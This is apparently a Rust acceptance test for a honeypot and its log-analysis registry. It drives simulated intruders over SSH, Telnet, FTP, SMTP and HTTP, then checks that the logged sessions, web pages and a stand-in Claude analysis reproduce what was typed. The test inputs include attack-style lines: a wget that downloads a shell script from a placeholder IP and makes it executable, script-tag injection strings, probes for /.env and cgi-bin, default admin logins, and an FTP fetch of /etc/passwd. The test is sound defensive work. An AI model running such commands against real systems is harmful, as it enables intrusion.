//! The whole river: visitors on all five ports, the jobs, the tables, the pages, and an analysis by a stand-in for Claude.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

use std::{
    collections::{BTreeMap, BTreeSet},
    process::Command,
    time::Duration,
};

use acceptance::{
    Browser, Bucket, Registry, binaries,
    bucket::PASSWORD,
    clients::{Lines, Ssh, at_prompt},
    process::complete,
    standins::{Dialect, StandIn},
};
use serde_json::Value;

/// What the stand-in for Claude says about everything.
const VERDICT: &str =
    "One visitor tried the doors with a known password, looked around and left a file behind.";

/// Typed over SSH and Telnet, each marked by the way it went, and hard to show: markup, quotes, an entity, a letter beyond ASCII.
fn lines(way: &str) -> Vec<String> {
    vec![
        format!("echo {way}; id; uname -a"),
        format!("cat /proc/cpuinfo | grep name | wc -l # {way}"),
        format!("echo '<script>alert(\"{way}\")</script>' && echo \"&amp; {way}\""),
        format!("wget http://192.0.2.1/{way}.sh -O /tmp/{way}.sh; chmod +x /tmp/{way}.sh"),
        format!("echo grüße-{way} > /tmp/{way}; cat /tmp/{way}"),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_visitors_do_is_what_people_read() {
    acceptance::init();
    let claude = StandIn::start(Dialect::Claude, VERDICT).await;
    let mut registry = Registry::new();
    registry.set(&["analysis", "provider"], "claude");
    registry.set(&["anthropic", "api_key"], "not-a-key");
    registry.set(&["anthropic", "base_url"], claude.url.as_str());
    registry.start().await;
    let key = registry.make_key();
    let (password, token) = registry.make_user("admin", "admin");
    let mut bucket = Bucket::new();
    bucket.register_at(&registry.url, &key);
    bucket.start().await;
    let name = bucket.name();
    registry.wait_until_active(&name).await;

    let mut typed = BTreeMap::new();
    typed.insert("ssh", visit_ssh(&bucket).await);
    typed.insert("telnet", visit_telnet(&bucket).await);
    typed.insert("ftp", visit_ftp(&bucket).await);
    typed.insert("smtp", visit_smtp(&bucket).await);
    let requests = visit_http(&bucket).await;
    let by_programs = visit_with_installed_clients(&bucket);
    bucket.assert_sound();

    registry.run_job("update_buckets");
    registry.run_job("extract_logs");
    registry.run_job("parse_logs");
    let tables = registry.tables().await;
    let rows = tables.logs(&name).await;
    assert_rows_are_the_log(&rows, &bucket);
    let mut ours: BTreeMap<&str, String> = BTreeMap::new();
    for (protocol, lines) in &typed {
        let inputs = inputs_of(&rows, protocol);
        let sessions: BTreeSet<&String> = inputs.iter().map(|(session, _)| session).collect();
        let of = |session: &str| -> Vec<&String> {
            inputs
                .iter()
                .filter(|(of, input)| of == session && lines.contains(input))
                .map(|(_, input)| input)
                .collect()
        };
        let found = sessions.into_iter().find(|session| of(session) == lines.iter().collect::<Vec<_>>());
        let found = found.unwrap_or_else(|| {
            panic!("{protocol}: {lines:#?} once and in order, in one session of {inputs:#?}")
        });
        ours.insert(protocol, found.clone());
    }
    for line in &by_programs {
        assert!(rows.iter().any(|row| row["input"] == line.as_str()), "{line:?} is not in `logs`");
    }
    for target in &requests {
        assert!(rows.iter().any(|row| row["target"] == target.as_str()), "{target} is not in `logs`");
    }

    let browser = Browser::sign_in(&registry.url, "admin", &password).await;
    for (protocol, lines) in &typed {
        let path = format!("/sessions/{name}/{}", ours[protocol]);
        let page = browser.page(&path).await;
        for line in lines {
            assert!(page.contains(line.as_str()), "{line:?} is not on the page {path}:\n{page}");
        }
    }
    let list = browser.page("/sessions").await;
    assert!(list.contains("ssh") && list.contains("127.0.0.1"), "the list of sessions:\n{list}");
    assert!(browser.page("/").await.contains(&name), "the fleet names the bucket");
    let listed = api(&registry, &token, "/api/sessions").await;
    assert!(listed["items"].as_array().unwrap().len() >= 5, "{listed:#}");

    registry.run_job("analyze_logs");
    let analyses = tables.analyses(&name).await;
    assert!(analyses.iter().any(|text| text.contains(VERDICT)), "{analyses:#?}");
    let asked = claude.asked();
    assert!(!asked.is_empty(), "Claude was asked");
    let question = Value::from(asked).to_string();
    assert!(question.contains("wget http://192.0.2.1/"), "the question holds samples: {question}");
    assert!(!question.contains("not-a-key"), "no key in a question");
    let shown = browser.page("/analyses").await;
    let at = shown.find("/analyses/").expect("a link to an analysis");
    let number: String = shown[at + "/analyses/".len()..].chars().take_while(char::is_ascii_digit).collect();
    let page = browser.page(&format!("/analyses/{number}")).await;
    assert!(page.contains(VERDICT), "the analysis is on its page:\n{page}");

    // Everything again: nothing doubles.
    for job in ["extract_logs", "parse_logs"] {
        registry.run_job(job);
    }
    assert_rows_are_the_log(&tables.logs(&name).await, &bucket);
    bucket.stop();
    registry.stop();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_machine_behind_every_port() {
    acceptance::init();
    let mut bucket = Bucket::new();
    bucket.start().await;
    let ports = bucket.ports.clone();

    let mut ftp = ftp_login(&bucket).await;
    store(&mut ftp, "/root/left.bin", b"left by ftp\n").await;
    store(&mut ftp, "/var/www/html/left.txt", b"for the web\n").await;
    deliver(ports.smtp, "Subject: greetings\r\n\r\nread me over ssh\r\n").await;

    let mut ssh = Ssh::log_in(ports.ssh, "root", PASSWORD).await.unwrap().unwrap();
    let sum = ssh.exec("sha256sum /root/left.bin").await.unwrap();
    let expected = {
        use sha2::Digest as _;
        hex::encode(sha2::Sha256::digest(b"left by ftp\n"))
    };
    assert_eq!(sum.out, format!("{expected}  /root/left.bin\n"));
    let mail = ssh.exec("cat /var/mail/root").await.unwrap().out;
    assert!(mail.contains("Subject: greetings") && mail.contains("read me over ssh"), "{mail}");
    ssh.exec("echo by ssh > /var/www/html/ssh.txt").await.unwrap();

    for (path, content) in [("/left.txt", "for the web\n"), ("/ssh.txt", "by ssh\n")] {
        let answer = reqwest::get(format!("http://127.0.0.1:{}{path}", ports.http)).await.unwrap();
        assert_eq!(answer.status(), 200, "{path}");
        assert_eq!(answer.text().await.unwrap(), content);
    }
    let mut telnet = Lines::telnet(ports.telnet).await.unwrap();
    telnet.log_in("root", PASSWORD).await.unwrap();
    telnet.send_line("cat /root/left.bin").await.unwrap();
    let shown = telnet.until("left by ftp\r\n").await.unwrap();
    assert!(shown.contains("cat /root/left.bin"), "the terminal echoes: {shown:?}");

    // Somebody else sees none of it.
    let other = std::net::Ipv4Addr::new(127, 9, 9, 9);
    let mut stranger = Ssh::log_in_from(other, ports.ssh, "root", PASSWORD).await.unwrap().unwrap();
    let missing = stranger.exec("cat /root/left.bin").await.unwrap();
    assert_eq!((missing.out.as_str(), missing.status), ("", Some(1)));
    assert!(missing.err.contains("No such file or directory"), "{missing:?}");
    bucket.assert_sound();
    bucket.stop();
}

/// A client library, with and without a terminal.
async fn visit_ssh(bucket: &Bucket) -> Vec<String> {
    assert!(
        Ssh::log_in(bucket.ports.ssh, "root", "wrong").await.unwrap().is_none(),
        "a wrong password is refused"
    );
    let mut ssh =
        Ssh::log_in(bucket.ports.ssh, "root", PASSWORD).await.unwrap().expect("the password is accepted");
    let mut typed = Vec::new();
    for line in lines("exec") {
        let output = ssh.exec(&line).await.unwrap();
        if line.contains("id;") {
            assert!(output.out.contains("uid=0(root) gid=0(root)"), "{output:?}");
        }
        typed.push(line);
    }
    let mut shell = ssh.shell().await.unwrap();
    for line in lines("shell") {
        shell.line(&line, Duration::from_secs(20)).await.unwrap_or_else(|| panic!("{line} hangs"));
        typed.push(line);
    }
    ssh.leave().await;
    typed
}

async fn visit_telnet(bucket: &Bucket) -> Vec<String> {
    let mut telnet = Lines::telnet(bucket.ports.telnet).await.unwrap();
    telnet.log_in("root", PASSWORD).await.unwrap();
    for line in lines("telnet") {
        telnet.send_line(&line).await.unwrap();
        telnet.read_until(at_prompt).await.unwrap_or_else(|error| panic!("{line}: {error}"));
    }
    lines("telnet")
}

async fn ftp_login(bucket: &Bucket) -> Lines {
    let mut ftp = Lines::connect(bucket.ports.ftp).await.unwrap();
    assert!(ftp.reply().await.unwrap().starts_with("220 "));
    assert!(ftp.ask("USER root").await.unwrap().starts_with("331 "));
    assert!(ftp.ask(&format!("PASS {PASSWORD}")).await.unwrap().starts_with("230 "));
    ftp
}

/// EPSV and STOR (RFC 2428, RFC 959).
async fn store(ftp: &mut Lines, path: &str, content: &[u8]) {
    assert!(ftp.ask("TYPE I").await.unwrap().starts_with("200 "));
    let reply = ftp.ask("EPSV").await.unwrap();
    let port =
        reply.split("|||").nth(1).and_then(|rest| rest.split('|').next()).and_then(|port| port.parse().ok());
    ftp.send_line(&format!("STOR {path}")).await.unwrap();
    let mut data = Lines::connect(port.unwrap_or_else(|| panic!("no port in {reply:?}"))).await.unwrap();
    data.send(content).await.unwrap();
    drop(data);
    let mut reply = ftp.reply().await.unwrap();
    if !reply.contains("226 ") {
        reply = ftp.reply().await.unwrap();
    }
    assert!(reply.contains("226 "), "{reply:?}");
}

async fn visit_ftp(bucket: &Bucket) -> Vec<String> {
    let mut ftp = ftp_login(bucket).await;
    store(&mut ftp, "/root/river.bin", b"by the river\n").await;
    for line in ["SYST", "SIZE /root/river.bin", "CWD /tmp/ftp-was-here", "QUIT"] {
        ftp.ask(line).await.unwrap();
    }
    ["TYPE I", "EPSV", "STOR /root/river.bin", "SYST", "SIZE /root/river.bin", "CWD /tmp/ftp-was-here"]
        .map(str::to_owned)
        .to_vec()
}

/// One mail to root (RFC 5321).
async fn deliver(port: u16, mail: &str) {
    let mut smtp = Lines::connect(port).await.unwrap();
    assert!(smtp.reply().await.unwrap().starts_with("220 "));
    for (line, code) in [
        ("EHLO river.example", "250"),
        ("MAIL FROM:<visitor@river.example>", "250 "),
        ("RCPT TO:<root>", "250 "),
        ("DATA", "354 "),
    ] {
        let reply = smtp.ask(line).await.unwrap();
        assert!(reply.starts_with(code), "{line}: {reply}");
    }
    let reply = smtp.ask(&format!("{mail}.")).await.unwrap();
    assert!(reply.starts_with("250 "), "{reply}");
    assert!(smtp.ask("QUIT").await.unwrap().starts_with("221 "));
}

async fn visit_smtp(bucket: &Bucket) -> Vec<String> {
    deliver(bucket.ports.smtp, "Subject: river\r\n\r\nhello\r\n").await;
    ["EHLO river.example", "MAIL FROM:<visitor@river.example>", "RCPT TO:<root>", "DATA", "QUIT"]
        .map(str::to_owned)
        .to_vec()
}

async fn visit_http(bucket: &Bucket) -> Vec<String> {
    let base = format!("http://127.0.0.1:{}", bucket.ports.http);
    let targets = ["/", "/.env?river=1", "/cgi-bin/%3Cscript%3E"];
    let client = reqwest::Client::new();
    for target in targets {
        client.get(format!("{base}{target}")).send().await.unwrap();
    }
    client.post(format!("{base}/login.php")).body("user=admin&password=admin").send().await.unwrap();
    targets.iter().chain(&["/login.php"]).map(|target| (*target).to_owned()).collect()
}

/// The programs people have: each that is installed visits once. Gives the lines that must be found.
fn visit_with_installed_clients(bucket: &Bucket) -> Vec<String> {
    let mut typed = Vec::new();
    let ports = &bucket.ports;
    let run = |program: &str, arguments: &[&str]| {
        let (status, printed, said) = complete(Command::new(program).args(arguments));
        assert!(status.success(), "{program} ended with {status}:\n{printed}{said}");
        printed
    };
    if binaries::client("ssh").is_some() && binaries::client("sshpass").is_some() {
        let port = ports.ssh.to_string();
        let command = "uname -n; echo openssh-was-here";
        let options = [
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
            "-o",
            "LogLevel=ERROR",
            "-p",
            &port,
        ];
        let mut arguments = vec!["-p", PASSWORD, "ssh"];
        arguments.extend(options);
        arguments.extend(["root@127.0.0.1", command]);
        let printed = run("sshpass", &arguments);
        assert!(printed.ends_with("openssh-was-here\n"), "{printed:?}");
        typed.push(command.to_owned());
    }
    if binaries::client("curl").is_some() {
        let printed = run("curl", &["-sS", "-I", &format!("http://127.0.0.1:{}/", ports.http)]);
        assert!(printed.starts_with("HTTP/1.1 200 OK\r\nServer: nginx"), "{printed}");
        let printed = run(
            "curl",
            &[
                "-sS",
                "--user",
                &format!("root:{PASSWORD}"),
                &format!("ftp://127.0.0.1:{}//etc/passwd", ports.ftp),
            ],
        );
        assert!(printed.starts_with("root:x:0:0:root:/root:/bin/bash\n"), "{printed}");
        typed.push("RETR passwd".to_owned());
    }
    if binaries::client("lftp").is_some() {
        let script = format!(
            "set net:max-retries 1; set net:timeout 20; open -u root,{PASSWORD} -p {} 127.0.0.1; cd /etc; cat hostname; bye",
            ports.ftp
        );
        let printed = run("lftp", &["-c", &script]);
        assert!(!printed.trim().is_empty(), "a host name");
        typed.push("RETR hostname".to_owned());
    }
    if binaries::client("swaks").is_some() {
        let server = format!("127.0.0.1:{}", ports.smtp);
        run(
            "swaks",
            &[
                "--server",
                &server,
                "--helo",
                "swaks.example",
                "--from",
                "a@swaks.example",
                "--to",
                "root",
                "--silent",
                "2",
            ],
        );
        typed.push("EHLO swaks.example".to_owned());
    }
    typed
}

/// Session and line of every command on a protocol.
fn inputs_of(rows: &[Value], protocol: &str) -> Vec<(String, String)> {
    let commands =
        rows.iter().filter(|row| row["eventid"] == "cowrie.command.input" && row["protocol"] == protocol);
    let text = |row: &Value, field: &str| row[field].as_str().unwrap().to_owned();
    commands.map(|row| (text(row, "session"), text(row, "input"))).collect()
}

/// The rows of `logs` are the lines of the bucket's log: each once, none changed.
fn assert_rows_are_the_log(rows: &[Value], bucket: &Bucket) {
    let by_seq = |events: &[Value]| -> BTreeMap<u64, Value> {
        let map: BTreeMap<u64, Value> =
            events.iter().map(|event| (event["seq"].as_u64().unwrap(), event.clone())).collect();
        assert_eq!(map.len(), events.len(), "a sequence number twice");
        map
    };
    let (filed, logged) = (by_seq(rows), by_seq(&bucket.events()));
    // The registry's own visits to the management port may add a line after the extract.
    for (seq, event) in logged.iter().filter(|(seq, _)| **seq <= rows.len() as u64) {
        assert_eq!(filed.get(seq), Some(event), "event {seq}");
    }
    assert!(filed.len() + 2 >= logged.len(), "{} of {} events are filed", filed.len(), logged.len());
}

/// One call of the API with a token.
async fn api(registry: &Registry, token: &str, path: &str) -> Value {
    let answer = reqwest::Client::new()
        .get(format!("{}{path}", registry.url))
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    assert_eq!(answer.status(), 200, "{path}");
    serde_json::from_slice(&answer.bytes().await.unwrap()).unwrap()
}
